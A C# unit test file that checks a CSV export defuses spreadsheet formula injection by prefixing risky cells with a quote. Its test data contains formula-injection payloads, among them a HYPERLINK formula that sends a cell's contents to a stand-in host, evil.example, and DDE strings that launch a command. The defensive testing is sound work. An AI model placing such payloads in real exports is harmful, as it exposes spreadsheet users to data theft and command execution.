using System.Globalization;
using System.Text.Json.Nodes;
using CsvHelper;
using Pipeline.Cli.Output;

namespace Pipeline.Cli.Tests.Output;

public sealed class ArticleCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("=1+1,\"=2\"\r\n=3")]
    public async Task A_cell_that_a_spreadsheet_would_run_is_defused_and_otherwise_unchanged(string title)
    {
        var cell = Assert.Single(await CellsAsync(title));

        Assert.Equal("'" + title, cell);
    }

    [Theory]
    [InlineData("Harbour, bridge; and \"tunnel\"")]
    [InlineData("Two\r\nlines")]
    [InlineData("Brücke – 橋 😀")]
    [InlineData("1 = 1")]
    [InlineData("")]
    public async Task Any_other_text_comes_back_as_it_was(string title) => Assert.Equal(title, Assert.Single(await CellsAsync(title)));

    [Fact]
    public async Task Sentiment_has_four_columns_and_phrases_one()
    {
        var csv = await WriteAsync(
            JsonNode.Parse("""{"sentiment":{"label":"Negative","positive":0.1,"neutral":0.2,"negative":0.7},"keyPhrases":["a b","c"],"version":2}""")!.AsObject(),
            "version", "sentiment", "keyPhrases");

        Assert.Equal("version,sentiment,positive,neutral,negative,keyPhrases\r\n2,Negative,0.1,0.2,0.7,a b; c\r\n", csv);
    }

    private static async Task<List<string>> CellsAsync(string title)
    {
        var csv = await WriteAsync(new JsonObject { ["title"] = title }, "title");
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        await reader.ReadAsync();
        reader.ReadHeader();
        List<string> cells = [];
        while (await reader.ReadAsync())
        {
            cells.Add(reader.GetField(0)!);
        }

        return csv == "title\r\n\r\n" ? [""] : cells;
    }

    private static async Task<string> WriteAsync(JsonObject row, params string[] fields)
    {
        await using var writer = new StringWriter();
        await ArticleCsv.WriteAsync(writer, new[] { row }.ToAsyncEnumerable(), fields, TestContext.Current.CancellationToken);
        return writer.ToString();
    }
}
